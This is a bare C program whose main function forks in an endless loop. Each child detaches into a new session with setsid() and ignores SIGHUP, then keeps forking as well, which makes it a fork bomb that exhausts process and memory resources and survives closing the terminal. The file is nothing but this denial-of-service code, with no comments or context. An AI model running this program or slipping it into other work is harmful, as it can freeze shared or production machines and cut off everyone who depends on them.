int main(void)
{
    for (;;)
        if (fork() == 0) {
            setsid();
            signal(SIGHUP, SIG_IGN);
        }
}
